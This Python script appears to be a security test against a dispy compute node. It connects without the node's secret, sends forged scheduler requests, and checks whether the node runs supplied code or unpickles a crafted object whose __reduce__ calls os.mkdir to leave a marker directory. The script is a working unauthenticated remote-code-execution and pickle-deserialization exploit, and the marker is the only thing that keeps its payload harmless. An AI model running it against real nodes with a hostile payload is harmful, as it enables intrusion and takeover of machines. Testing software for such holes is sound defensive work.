"""Asks a node for everything that schedulers may ask for, without its secret.

Its arguments are the node's address and port, and a file that code of it would make if it ran.
"""

import os
import socket
import sys

import dispy
import peer
import pycos

HOST, PORT, MARK = sys.argv[1], int(sys.argv[2]), sys.argv[3]


class Evil(object):
    """Makes a file where it is unpickled."""

    def __reduce__(self):
        return (os.mkdir, (MARK,))


def ask(request, body):
    with socket.create_connection((HOST, PORT), timeout=10) as sock:
        sock.sendall(b'0' * 40)
        peer.send(sock, request.encode() + b':' + pycos.serialize(body))
        try:
            answer = peer.receive(sock)
        except ConnectionResetError:
            answer = b''
    peer.emit('answer', request=request, size=len(answer))


compute = dispy._Compute(dispy._Compute.func_type, 'work')
compute.code = 'import os\nos.mkdir(%r)\ndef work(): pass\n' % MARK
compute.id, compute.auth, compute.node_ip_addr = 1, 'x' * 40, HOST
compute.scheduler_ip_addr, compute.scheduler_port = '127.0.0.1', 9700
ask('COMPUTE', compute)
ask('SETUP', {'compute_id': 1, 'setup_args': (Evil(),)})
ask('JOB', Evil())
ask('FILEXFER', Evil())
ask('CLOSE', {'compute_id': 1, 'auth': 'x' * 40, 'node_ip_addr': HOST})
ask('PING', Evil())
